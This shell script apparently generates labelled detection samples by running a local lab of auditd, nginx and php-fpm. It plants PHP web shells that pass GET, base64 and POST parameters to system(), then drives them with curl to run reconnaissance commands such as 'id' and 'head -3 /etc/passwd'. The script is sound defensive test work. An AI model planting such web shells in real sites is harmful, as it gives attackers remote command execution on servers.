#!/bin/sh
# SPDX-License-Identifier: ISC
# Capture samples/custom-json: a real auditd, nginx and php-fpm on this
# machine while a web shell is driven with curl.
#
#   sh tools/capture/custom-json.sh [OUTDIR]     (as root; default samples/custom-json)
#
# What it sets up, all under a temporary directory and torn down after:
# - auditd with its own configuration: ENRICHED format, node=web03,
#   execve/execveat rules for both arches; rotated once mid-way;
# - php-fpm 8.2, one pool as www-data, and nginx as www-data on
#   127.0.0.1:8081, serving /srv/www/app, with nginx in the +05:30 zone
#   and a JSON log_format holding $time_iso8601, $msec, $request_time
#   and $http_x_forwarded_for (clients behind a proxy that sets it);
# - a GET web shell (shell.php: c= runs a command, x= a base64 one), a
#   POST web shell (api/upload.php), a page that runs a command
#   legitimately (report.php), and ordinary pages.
# It writes the audit logs, the access log, the nginx configuration (for
# --log-format-file), the PHP scripts and truth.tsv: for each web shell
# request, the time curl started, the client address as the logs give it,
# the method, the path and the exact command.
#
# Needs: auditd, nginx, php8.2-fpm, curl.  Removes only the audit
# rules it added; refuses to run when auditd is already running.
set -eu

OUT=$(realpath -m "${1:-$(dirname "$0")/../../samples/custom-json}")
PORT=8081
KEY=shelltrail_exec
WEB=/srv/www/app
T=$(mktemp -d /tmp/shelltrail-capture.XXXXXX)
BASE="http://127.0.0.1:$PORT"

[ "$(id -u)" -eq 0 ] || { echo "capture: run as root" >&2; exit 2; }
if pidof auditd >/dev/null; then
	echo "capture: auditd is running; stop it first" >&2
	exit 2
fi

cleanup() {
	auditctl -d always,exit -F arch=b64 -S execve,execveat -k "$KEY" \
	    2>/dev/null || true
	auditctl -d always,exit -F arch=b32 -S execve,execveat -k "$KEY" \
	    2>/dev/null || true
	[ -f "$T/nginx.pid" ] && kill "$(cat "$T/nginx.pid")" 2>/dev/null || true
	[ -f "$T/fpm.pid" ] && kill "$(cat "$T/fpm.pid")" 2>/dev/null || true
	[ -f "$T/auditd.pid" ] && kill "$(cat "$T/auditd.pid")" 2>/dev/null || true
	sleep 1
	rm -rf "$T"
}
trap cleanup EXIT INT TERM

# nginx's www-data workers must reach the php-fpm socket in here.
chmod 755 "$T"
mkdir -p "$T/audit" "$T/nginx" "$WEB/api"

# --- the web application -------------------------------------------------
cat > "$WEB/index.php" <<'PHP'
<?php echo "<h1>Welcome</h1>\n";
PHP
cat > "$WEB/about.html" <<'HTML'
<p>About us</p>
HTML
cat > "$WEB/report.php" <<'PHP'
<?php /* a page that runs a command on purpose */
echo "generated at " . shell_exec('date +%s');
PHP
cat > "$WEB/shell.php" <<'PHP'
<?php
if (isset($_GET['c'])) system($_GET['c']);
if (isset($_GET['x'])) system(base64_decode($_GET['x']));
PHP
cat > "$WEB/api/upload.php" <<'PHP'
<?php
if (isset($_POST['code'])) { system($_POST['code']); }
echo "uploaded\n";
PHP
chown -R www-data:www-data "$WEB"

# --- php-fpm --------------------------------------------------------------
cat > "$T/fpm.conf" <<EOF
[global]
pid = $T/fpm.pid
error_log = $T/fpm.log
daemonize = yes
[app]
user = www-data
group = www-data
listen = $T/fpm.sock
listen.owner = www-data
listen.group = www-data
pm = static
pm.max_children = 2
EOF

# --- nginx ----------------------------------------------------------------
cat > "$T/nginx.conf" <<EOF
user www-data;
worker_processes 1;
pid $T/nginx.pid;
error_log $T/nginx/error.log;
events { worker_connections 64; }
http {
    log_format json_combined escape=json
        '{"time":"\$time_iso8601","msec":"\$msec",'
        '"request_time":"\$request_time","remote_addr":"\$remote_addr",'
        '"x_forwarded_for":"\$http_x_forwarded_for",'
        '"request":"\$request","status":"\$status",'
        '"bytes":"\$body_bytes_sent","referer":"\$http_referer",'
        '"user_agent":"\$http_user_agent","host":"\$host"}';
    access_log $T/nginx/access.log json_combined;
    server {
        listen 127.0.0.1:$PORT;
        root $WEB;
        index index.php;
        location ~ \.php\$ {
            include /etc/nginx/fastcgi_params;
            fastcgi_param SCRIPT_FILENAME \$document_root\$fastcgi_script_name;
            fastcgi_pass unix:$T/fpm.sock;
        }
    }
}
EOF

# --- auditd ---------------------------------------------------------------
cat > "$T/auditd.conf" <<EOF
local_events = yes
write_logs = yes
log_file = $T/audit/audit.log
log_format = ENRICHED
flush = INCREMENTAL_ASYNC
freq = 50
max_log_file = 64
num_logs = 5
max_log_file_action = ROTATE
name_format = USER
name = web03
space_left = 75
space_left_action = SYSLOG
admin_space_left = 50
admin_space_left_action = SUSPEND
disk_full_action = SUSPEND
disk_error_action = SUSPEND
end_of_event_timeout = 2
plugin_dir = $T/plugins.d
EOF
mkdir -p "$T/plugins.d"
auditd -c "$T"
sleep 1
pidof auditd > "$T/auditd.pid"
auditctl -a always,exit -F arch=b64 -S execve,execveat -k "$KEY"
auditctl -a always,exit -F arch=b32 -S execve,execveat -k "$KEY"

php-fpm8.2 -y "$T/fpm.conf"
TZ=Asia/Kolkata nginx -c "$T/nginx.conf"
sleep 1

# --- traffic --------------------------------------------------------------
TRUTH="$T/truth.tsv"
: > "$TRUTH"
now() { date +%s.%N; }
b64() { printf '%s' "$1" | base64 -w0; }

# A client behind the proxy: remote 127.0.0.1, X-Forwarded-For set;
# curl -G puts --data-urlencode's parameters in the query string.
get() {	# XFF UA PATH [PARAM=VALUE]
	curl -s -o /dev/null -H "X-Forwarded-For: $1" -A "$2" \
	    ${4:+-G --data-urlencode "$4"} "$BASE$3" || true
}
browse() {	# some ordinary traffic from three clients
	for c in 198.51.100.10 198.51.100.11 198.51.100.12; do
		get "$c" "Mozilla/5.0 (X11; Linux x86_64)" "/index.php?lang=en"
		get "$c" "Mozilla/5.0 (X11; Linux x86_64)" "/about.html"
	done
}
ATTACKER="203.0.113.66, 10.9.8.7"
AUA="Mozilla/5.0 (compatible; evil/1.0)"
shell() {	# COMMAND: through ?c=
	printf '%s\t203.0.113.66\tGET\t/shell.php\t%s\n' "$(now)" "$1" >> "$TRUTH"
	get "$ATTACKER" "$AUA" /shell.php "c=$1"
}
shell64() {	# COMMAND: base64 through ?x=
	printf '%s\t203.0.113.66\tGET\t/shell.php\t%s\n' "$(now)" "$1" >> "$TRUTH"
	get "$ATTACKER" "$AUA" /shell.php "x=$(b64 "$1")"
}
post() {	# COMMAND: in the POST body, from a client without a proxy
	printf '%s\t127.0.0.99\tPOST\t/api/upload.php\t%s\n' "$(now)" "$1" >> "$TRUTH"
	curl -s -o /dev/null --interface 127.0.0.99 -A "python-requests/2.31.0" \
	    --data-urlencode "code=$1" "$BASE/api/upload.php" || true
}

browse
shell "id"
browse
shell "ls -la $WEB"
shell64 "cat /etc/hostname"
get 198.51.100.11 "Mozilla/5.0 (X11; Linux x86_64)" "/report.php?month=11"
browse
shell "sleep 2; echo done"
post "uname -a"
browse
post "id; head -3 /etc/passwd"
kill -USR1 "$(cat "$T/auditd.pid")"	# auditd rotates its log
sleep 1
shell "printf '%s\n' \"中文\" | wc -c"
browse
post "sh -c 'echo x > /tmp/.st_probe; rm -f /tmp/.st_probe'"
shell "echo done && exit 0"
browse
sleep 3	# let auditd flush

# --- collect --------------------------------------------------------------
nginx -c "$T/nginx.conf" -s quit
sleep 1
auditctl -d always,exit -F arch=b64 -S execve,execveat -k "$KEY"
auditctl -d always,exit -F arch=b32 -S execve,execveat -k "$KEY"
kill "$(cat "$T/auditd.pid")"
sleep 1
rm -rf "$OUT"
mkdir -p "$OUT/audit" "$OUT/nginx" "$OUT/www/api"
cp "$T"/audit/audit.log* "$OUT/audit/"
cp "$T/nginx/access.log" "$OUT/nginx/access.log"
sed "s|$T|/var/log/capture|g" "$T/nginx.conf" > "$OUT/nginx/nginx.conf"
cp "$WEB/index.php" "$WEB/report.php" "$WEB/shell.php" "$WEB/about.html" "$OUT/www/"
cp "$WEB/api/upload.php" "$OUT/www/api/"
cp "$TRUTH" "$OUT/truth.tsv"
chmod -R a+rX,u+w "$OUT"
echo "capture: wrote $OUT"
